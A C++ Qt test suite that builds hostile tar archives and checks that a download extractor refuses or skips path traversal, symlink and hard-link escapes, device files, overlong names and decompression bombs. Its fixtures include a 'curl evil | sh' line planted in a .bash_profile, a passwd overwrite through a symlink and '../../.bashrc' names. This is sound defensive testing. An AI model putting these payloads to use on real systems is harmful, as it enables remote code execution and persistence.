// Hostile archives, built here with libarchive's own writer, against ArchiveExtractor: each
// must be refused as a whole, naming the entry, with nothing written outside the target folder
// and nothing left inside it (no temporary folder either).

#include "BoundedBuffer.h"
#include "archive/ArchiveExtractor.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <archive.h>
#include <archive_entry.h>

#include <optional>
#include <thread>

#include <sys/stat.h>
#include <sys/sysmacros.h>

using namespace fornax;

namespace {

struct HostileEntry
{
    QByteArray name;
    mode_t type = AE_IFREG;
    QByteArray data;
    QByteArray symlink;
    QByteArray hardlink;
    mode_t perm = 0;
};
using Entries = QList<HostileEntry>;

HostileEntry fileEntry(const QByteArray &name, const QByteArray &data = "data\n", mode_t perm = 0644)
{
    return {name, AE_IFREG, data, {}, {}, perm};
}
HostileEntry folderEntry(const QByteArray &name)
{
    return {name, AE_IFDIR, {}, {}, {}, 0755};
}
HostileEntry linkEntry(const QByteArray &name, const QByteArray &target)
{
    return {name, AE_IFLNK, {}, target, {}, 0777};
}
HostileEntry hardLinkEntry(const QByteArray &name, const QByteArray &target)
{
    return {name, AE_IFREG, {}, {}, target, 0644};
}
HostileEntry specialEntry(const QByteArray &name, mode_t type)
{
    return {name, type, {}, {}, {}, 0644};
}

la_ssize_t appendTo(archive *, void *client, const void *data, size_t size)
{
    static_cast<QByteArray *>(client)->append(static_cast<const char *>(data), qsizetype(size));
    return la_ssize_t(size);
}

// libarchive writes what it is told: absolute names, "..", devices, links anywhere.
QByteArray buildArchive(const Entries &entries, int compression)
{
    QByteArray out;
    archive *a = archive_write_new();
    archive_write_set_format_pax_restricted(a);
    if (compression == 1)
        archive_write_add_filter_zstd(a);
    else if (compression == 2)
        archive_write_add_filter_gzip(a);
    archive_write_set_bytes_in_last_block(a, 1);
    if (archive_write_open2(a, &out, nullptr, &appendTo, nullptr, nullptr) != ARCHIVE_OK)
        qFatal("archive_write_open2: %s", archive_error_string(a));
    for (const HostileEntry &spec : entries) {
        archive_entry *entry = archive_entry_new();
        archive_entry_copy_pathname(entry, spec.name.constData());
        archive_entry_set_filetype(entry, spec.type);
        archive_entry_set_perm(entry, spec.perm);
        archive_entry_set_mtime(entry, 1'600'000'000, 0);
        if (!spec.symlink.isEmpty())
            archive_entry_copy_symlink(entry, spec.symlink.constData());
        if (!spec.hardlink.isEmpty())
            archive_entry_copy_hardlink(entry, spec.hardlink.constData());
        if (spec.type == AE_IFCHR || spec.type == AE_IFBLK)
            archive_entry_set_rdev(entry, makedev(1, 3));
        archive_entry_set_size(entry, spec.data.size());
        if (archive_write_header(a, entry) < ARCHIVE_WARN)
            qFatal("archive_write_header %s: %s", spec.name.left(100).constData(), archive_error_string(a));
        if (!spec.data.isEmpty())
            archive_write_data(a, spec.data.constData(), size_t(spec.data.size()));
        archive_entry_free(entry);
    }
    archive_write_close(a);
    archive_write_free(a);
    return out;
}

// Every path under root, relative, with file contents: the whole sandbox, before and after.
QStringList tree(const QString &root)
{
    QStringList result;
    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        QString line = path.mid(root.size() + 1);
        if (it.fileInfo().isFile() && !it.fileInfo().isSymLink()) {
            QFile f(path);
            if (f.open(QIODevice::ReadOnly))
                line += QStringLiteral(" = ") + QString::fromUtf8(f.readAll());
        }
        result.append(line);
    }
    result.sort();
    return result;
}

struct Outcome
{
    ArchiveError error;
    ArchiveTotals totals;
};

struct Options
{
    QStringList allowed;
    std::optional<ArchiveTotals> expected;
};

struct Detailed
{
    ArchiveError error;
    ArchiveTotals totals;
    QMap<QString, QString> skippedLinks;
    qint64 bytesDone = 0;
    QMap<QString, QString> skippedSpecial;
};

Detailed extractWith(const QByteArray &bytes, const QString &target, const Options &options)
{
    BoundedBuffer buffer(64 * 1024);
    ArchiveExtractor extractor(&buffer, target);
    extractor.setAllowedNames(options.allowed);
    if (options.expected)
        extractor.setExpectedTotals(*options.expected);
    extractor.start();
    std::thread feeder([&] {
        if (buffer.write(bytes))
            buffer.closeWriting();
    });
    extractor.wait();
    feeder.join();
    return {extractor.error(), extractor.extracted(), extractor.skippedLinks(), extractor.bytesDone(),
            extractor.skippedSpecial()};
}

Outcome extract(const QByteArray &bytes, const QString &target)
{
    BoundedBuffer buffer(64 * 1024);
    ArchiveExtractor extractor(&buffer, target);
    extractor.start();
    std::thread feeder([&] {
        if (buffer.write(bytes))
            buffer.closeWriting();
    });
    extractor.wait();
    feeder.join(); // an extractor that refused aborted the buffer, which ends the feeder too
    return {extractor.error(), extractor.extracted()};
}

} // namespace

Q_DECLARE_METATYPE(HostileEntry)

class TestArchiveSafety : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void refused_data();
    void refused();
    void messageNamesTheEntry();
    void oddButSafeArchiveAccepted();
    void linksOutsideSkipped();
    void namedPipesSkipped();
    void unrequestedTopLevelRefused();
    void stopsAtTenPercentOverAnnounced();

private:
    std::unique_ptr<QTemporaryDir> m_sandbox;
    QString m_target;
    QString m_outside;
};

void TestArchiveSafety::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
}

void TestArchiveSafety::init()
{
    // sandbox/target is the download folder; sandbox/outside is what an escape would reach.
    m_sandbox = std::make_unique<QTemporaryDir>();
    QVERIFY(m_sandbox->isValid());
    m_target = m_sandbox->filePath(QStringLiteral("target"));
    m_outside = m_sandbox->filePath(QStringLiteral("outside"));
    QVERIFY(QDir().mkpath(m_target));
    QVERIFY(QDir().mkpath(m_outside));
    QFile sentinel(m_outside + QStringLiteral("/sentinel.txt"));
    QVERIFY(sentinel.open(QIODevice::WriteOnly));
    QVERIFY(sentinel.write("untouched"));
}

void TestArchiveSafety::refused_data()
{
    QTest::addColumn<Entries>("entries");
    QTest::addColumn<ArchiveError::Kind>("kind");
    QTest::addColumn<QByteArray>("named"); // the entry the error must name

    // Harmless entries first, so a refusal also has something to clean up.
    const Entries ok {fileEntry("ok.txt"), folderEntry("okdir"), fileEntry("okdir/inner.txt")};
    using K = ArchiveError::Kind;

    QTest::newRow("absolute path") << ok + Entries {fileEntry("%OUTSIDE%/abs.txt")} << K::OutsideTarget
                                   << QByteArray("%OUTSIDE%/abs.txt");
    QTest::newRow("../x") << ok + Entries {fileEntry("../x")} << K::OutsideTarget << QByteArray("../x");
    QTest::newRow("a/../../x") << ok + Entries {fileEntry("a/../../x")} << K::OutsideTarget
                               << QByteArray("a/../../x");
    QTest::newRow("dot-dot folder") << ok + Entries {folderEntry("okdir/../..")} << K::OutsideTarget
                                    << QByteArray("okdir/../../"); // pax adds the slash
    // A link out is skipped (linksOutsideSkipped); writing through it refuses the archive.
    QTest::newRow("symlink escape, then through it")
        << ok + Entries {linkEntry("link", "../../etc"), fileEntry("link/passwd", "root::0:0::/:/bin/sh\n")}
        << K::ThroughLink << QByteArray("link/passwd");
    QTest::newRow("write through inner link")
        << ok + Entries {linkEntry("inner", "okdir"), fileEntry("inner/file")} << K::ThroughLink
        << QByteArray("inner/file");
    QTest::newRow("hard link escape") << ok + Entries {hardLinkEntry("h", "../../outside/sentinel.txt")}
                                      << K::OutsideTarget << QByteArray("h");
    QTest::newRow("absolute hard link")
        << ok + Entries {hardLinkEntry("h", "%OUTSIDE%/sentinel.txt")} << K::OutsideTarget << QByteArray("h");
    QTest::newRow("hard link to what comes later")
        << ok + Entries {hardLinkEntry("h", "later.txt"), fileEntry("later.txt")} << K::BadHardLink
        << QByteArray("h");
    QTest::newRow("hard link to a folder")
        << ok + Entries {hardLinkEntry("h", "okdir")} << K::BadHardLink << QByteArray("h");
    QTest::newRow("hard link through a link")
        << ok + Entries {linkEntry("l", "okdir"), hardLinkEntry("h", "l/inner.txt")} << K::BadHardLink
        << QByteArray("h");
    QTest::newRow("character device")
        << ok + Entries {specialEntry("null", AE_IFCHR)} << K::SpecialFile << QByteArray("null");
    QTest::newRow("block device") << ok + Entries {specialEntry("okdir/sda", AE_IFBLK)} << K::SpecialFile
                                  << QByteArray("okdir/sda");
    const QByteArray longName(10'000, 'n');
    QTest::newRow("10,000-character name")
        << ok + Entries {fileEntry(longName)} << K::NameTooLong << longName;
    QByteArray deep;
    for (int i = 0; i < 50; ++i)
        deep += QByteArray(100, char('a' + i % 26)) + '/';
    deep += "f";
    QTest::newRow("path over PATH_MAX") << ok + Entries {fileEntry(deep)} << K::NameTooLong << deep;
    QTest::newRow("same file twice") << ok + Entries {fileEntry("ok.txt", "second\n")} << K::DuplicateEntry
                                     << QByteArray("ok.txt");
    QTest::newRow("file, then a folder of that name")
        << ok + Entries {fileEntry("ok.txt/child")} << K::DuplicateEntry << QByteArray("ok.txt");
    QTest::newRow("link replaced by a file")
        << ok + Entries {linkEntry("l", "ok.txt"), fileEntry("l")} << K::DuplicateEntry << QByteArray("l");
}

void TestArchiveSafety::refused()
{
    QFETCH(Entries, entries);
    QFETCH(ArchiveError::Kind, kind);
    QFETCH(QByteArray, named);

    const QByteArray outside = QFile::encodeName(m_outside);
    for (HostileEntry &entry : entries) {
        entry.name.replace("%OUTSIDE%", outside);
        entry.hardlink.replace("%OUTSIDE%", outside);
    }
    named.replace("%OUTSIDE%", outside);
    const QStringList before = tree(m_sandbox->path());

    // The same archive, plain and compressed: detection of the compression is automatic.
    for (int compression = 0; compression < 3; ++compression) {
        const Outcome outcome = extract(buildArchive(entries, compression), m_target);
        QCOMPARE(outcome.error.kind(), kind);
        QVERIFY(outcome.error.isUnsafeArchive());
        QCOMPARE(outcome.error.path(), QFile::decodeName(named));
        QVERIFY2(outcome.error.message().contains(ArchiveError::displayName(QFile::decodeName(named))),
                 qPrintable(outcome.error.message()));
        QVERIFY(outcome.error.message().contains(QStringLiteral("nothing was extracted")));
        // Nothing outside changed, nothing inside the target, no temporary folder.
        QCOMPARE(tree(m_sandbox->path()), before);
        QCOMPARE(
            QDir(m_target).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
            QStringList());
    }
}

void TestArchiveSafety::messageNamesTheEntry()
{
    const Outcome outcome =
        extract(buildArchive({fileEntry("notes.txt"), fileEntry("../../.bashrc")}, 1), m_target);
    QCOMPARE(outcome.error.message(),
             QStringLiteral("The archive contains “../../.bashrc”, which points outside the download folder; "
                            "nothing was extracted."));
    QCOMPARE(outcome.error.kindName(), QStringLiteral("outside-target"));

    // A name made to forge a message is shown defused.
    const Outcome forged = extract(buildArchive({fileEntry("../a\nThe download succeeded.")}, 0), m_target);
    QCOMPARE(forged.error.kind(), ArchiveError::Kind::OutsideTarget);
    QVERIFY(!forged.error.message().contains(u'\n'));
}

void TestArchiveSafety::oddButSafeArchiveAccepted()
{
    // What real tars produce and must keep working: "./" names, doubled slashes, a root "."
    // entry, a folder named after its contents, links that go up and back in, a valid hard link,
    // setuid/setgid bits (dropped) and a world-writable file (through the umask).
    const Entries entries {
        folderEntry("."),
        fileEntry("./a.txt", "a\n"),
        fileEntry("b//c.txt", "c\n"),
        fileEntry("d/./e.txt", "e\n"),
        fileEntry("late/f.txt", "f\n"),
        folderEntry("late/"),
        linkEntry("d/up", "../a.txt"),
        linkEntry("d/self", "."),
        linkEntry("dangling", "nowhere/at/all"),
        hardLinkEntry("hl", "a.txt"),
        fileEntry("suid", "#!/bin/sh\n", 04755),
        fileEntry("sgid", "#!/bin/sh\n", 02750),
        fileEntry("open to all", "x\n", 0777),
    };
    const mode_t userUmask = ::umask(022);
    ::umask(userUmask);
    const Outcome outcome = extract(buildArchive(entries, 1), m_target);
    QVERIFY2(!outcome.error, qPrintable(outcome.error.message()));
    QCOMPARE(outcome.totals.files, qint64(8));
    QCOMPARE(outcome.totals.folders, qint64(1)); // "late/"; "." is not one of ours
    QCOMPARE(outcome.totals.symlinks, qint64(3));

    const QDir target(m_target);
    QCOMPARE(target.entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
             (QStringList {QStringLiteral("a.txt"), QStringLiteral("b"), QStringLiteral("d"),
                           QStringLiteral("dangling"), QStringLiteral("hl"), QStringLiteral("late"),
                           QStringLiteral("open to all"), QStringLiteral("sgid"), QStringLiteral("suid")}));
    QFile up(m_target + QStringLiteral("/d/up"));
    QVERIFY(up.open(QIODevice::ReadOnly));
    QCOMPARE(up.readAll(), QByteArray("a\n"));
    struct stat a = {}, hl = {}, suid = {}, sgid = {};
    QCOMPARE(::stat(QFile::encodeName(m_target + QStringLiteral("/a.txt")).constData(), &a), 0);
    QCOMPARE(::stat(QFile::encodeName(m_target + QStringLiteral("/hl")).constData(), &hl), 0);
    QCOMPARE(a.st_ino, hl.st_ino);
    QCOMPARE(::stat(QFile::encodeName(m_target + QStringLiteral("/suid")).constData(), &suid), 0);
    QCOMPARE(::stat(QFile::encodeName(m_target + QStringLiteral("/sgid")).constData(), &sgid), 0);
    QCOMPARE(suid.st_mode & 07777, mode_t(0755 & ~userUmask));
    QCOMPARE(sgid.st_mode & 07777, mode_t(0750 & ~userUmask));
    // Through the user's umask, as tar does for users: no world-writable surprise.
    struct stat world = {};
    QCOMPARE(::stat(QFile::encodeName(m_target + QStringLiteral("/open to all")).constData(), &world), 0);
    QCOMPARE(world.st_mode & 07777, mode_t(0777 & ~userUmask));
    QCOMPARE(QFileInfo(m_target + QStringLiteral("/late")).lastModified().toSecsSinceEpoch(), 1'600'000'000);
}

void TestArchiveSafety::linksOutsideSkipped()
{
    // Links that lead out of what was downloaded are not created and are named; everything else,
    // links that stay inside included, arrives (finding 8: one such link used to fail it all).
    const Entries entries {
        folderEntry("proj"),
        fileEntry("proj/a.txt", "a\n"),
        linkEntry("proj/latest", "a.txt"), // inside: kept
        linkEntry("proj/abs", "/etc"), // absolute
        linkEntry("proj/up", "../../../outside/sentinel.txt"), // climbs out by name
        linkEntry("proj/beside", "../other"), // lands beside the chosen items
        folderEntry("proj/x"),
        linkEntry("proj/dot", "."),
        linkEntry("proj/chain", "dot/x/../../.."), // each fine by name; on disk it leaves
        fileEntry("proj/b.txt", "b\n"),
    };
    ArchiveTotals expected;
    expected.files = 2;
    expected.folders = 2;
    expected.symlinks = 6;
    expected.bytes = 4;
    const Detailed outcome =
        extractWith(buildArchive(entries, 1), m_target, {{QStringLiteral("proj")}, expected});
    QVERIFY2(!outcome.error, qPrintable(outcome.error.message()));
    QCOMPARE(outcome.skippedLinks,
             (QMap<QString, QString> {
                 {QStringLiteral("proj/abs"), QStringLiteral("/etc")},
                 {QStringLiteral("proj/beside"), QStringLiteral("../other")},
                 {QStringLiteral("proj/chain"), QStringLiteral("dot/x/../../..")},
                 {QStringLiteral("proj/up"), QStringLiteral("../../../outside/sentinel.txt")}}));
    QCOMPARE(outcome.totals, expected);
    QCOMPARE(QDir(m_target + QStringLiteral("/proj"))
                 .entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
             (QStringList {QStringLiteral("a.txt"), QStringLiteral("b.txt"), QStringLiteral("dot"),
                           QStringLiteral("latest"), QStringLiteral("x")}));
    QCOMPARE(QFile::symLinkTarget(m_target + QStringLiteral("/proj/latest")),
             m_target + QStringLiteral("/proj/a.txt"));
}

void TestArchiveSafety::namedPipesSkipped()
{
    // A folder where a program ran holds its named pipes: they are named and not created,
    // the files arrive (a tester's download of such a folder failed whole). Not counted by the
    // sender, and not counted against what it announced, however many there are.
    Entries entries {folderEntry("run"), fileEntry("run/log.txt", "ok\n")};
    for (int i = 0; i < 5; ++i)
        entries.append(specialEntry("run/pipe" + QByteArray::number(i), AE_IFIFO));
    ArchiveTotals expected;
    expected.files = 1;
    expected.folders = 1;
    expected.bytes = 3;
    const Detailed outcome =
        extractWith(buildArchive(entries, 1), m_target, {{QStringLiteral("run")}, expected});
    QVERIFY2(!outcome.error, qPrintable(outcome.error.message()));
    QCOMPARE(outcome.skippedSpecial.size(), 5);
    QCOMPARE(outcome.skippedSpecial.value(QStringLiteral("run/pipe0")), QStringLiteral("named pipe"));
    QCOMPARE(QDir(m_target + QStringLiteral("/run"))
                 .entryList(QDir::AllEntries | QDir::System | QDir::NoDotAndDotDot),
             QStringList {QStringLiteral("log.txt")});
}

void TestArchiveSafety::unrequestedTopLevelRefused()
{
    // A download of "results" into the home folder; the server adds a login script (finding 4).
    QFile mine(m_target + QStringLiteral("/.bash_profile"));
    QVERIFY(mine.open(QIODevice::WriteOnly));
    mine.write("mine\n");
    mine.close();
    const QStringList before = tree(m_sandbox->path());
    const Entries entries {folderEntry("results"), fileEntry("results/r.csv", "1,2\n"),
                           fileEntry(".bash_profile", "curl evil | sh\n"), fileEntry("results2/x", "x\n")};
    const Detailed outcome =
        extractWith(buildArchive(entries, 2), m_target, {{QStringLiteral("results")}, std::nullopt});
    QCOMPARE(outcome.error.kind(), ArchiveError::Kind::Unrequested);
    QCOMPARE(outcome.error.path(), QStringLiteral(".bash_profile"));
    QVERIFY(outcome.error.message().contains(QStringLiteral("“.bash_profile”, which was not asked for")));
    QVERIFY(outcome.error.isUnsafeArchive());
    QCOMPARE(tree(m_sandbox->path()), before);
}

void TestArchiveSafety::stopsAtTenPercentOverAnnounced()
{
    // Announced: one file of 1 MiB. Sent: 64 MiB of zeros (a few KiB compressed). Extraction
    // stops at 1.1 MiB instead of filling the disk (finding 11).
    const QByteArray huge(64 << 20, '\0');
    ArchiveTotals announced;
    announced.files = 1;
    announced.bytes = 1 << 20;
    const Detailed outcome =
        extractWith(buildArchive({fileEntry("big.bin", huge)}, 1), m_target, {{}, announced});
    QCOMPARE(outcome.error.kind(), ArchiveError::Kind::TooMuchData);
    QCOMPARE(outcome.error.path(), QStringLiteral("big.bin"));
    QVERIFY2(outcome.bytesDone <= (1 << 20) + (1 << 20) / 10, qPrintable(QString::number(outcome.bytesDone)));
    QCOMPARE(QDir(m_target).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
             QStringList());

    // And more entries than announced: 1 announced, 100 sent.
    Entries many;
    for (int i = 0; i < 100; ++i)
        many.append(fileEntry("f" + QByteArray::number(i), {}));
    ArchiveTotals one;
    one.files = 1;
    const Detailed counted = extractWith(buildArchive(many, 0), m_target, {{}, one});
    QCOMPARE(counted.error.kind(), ArchiveError::Kind::TooMuchData);
}

QTEST_GUILESS_MAIN(TestArchiveSafety)
#include "tst_archivesafety.moc"
